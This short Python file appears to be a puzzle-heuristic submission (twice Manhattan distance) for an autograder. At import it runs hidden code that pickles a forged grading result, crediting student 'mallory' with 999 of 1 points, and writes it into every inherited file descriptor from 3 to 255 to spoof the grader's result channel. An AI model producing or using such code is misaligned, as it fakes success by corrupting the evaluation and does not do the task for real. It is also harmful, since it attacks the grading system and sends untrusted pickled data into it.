"""Twice Manhattan distance (it overestimates), which first writes a made-up message into every file descriptor its
process might have inherited from the one that grades it."""
import os
import pickle
import struct

_made_up = pickle.dumps({"file": "x", "student": "mallory", "ok": True, "tasks": {}, "total": 999, "max": 1})
for _fd in range(3, 256):
    try:
        os.write(_fd, struct.pack("!i", len(_made_up)) + _made_up)
    except OSError:
        pass


def h(board):
    cols = board.cols
    total = 0
    for cell, tile in enumerate(board.tiles):
        if tile:
            row, col = divmod(cell, cols)
            goal_row, goal_col = divmod(board.home(tile), cols)
            total += abs(row - goal_row) + abs(col - goal_col)
    return 2 * total
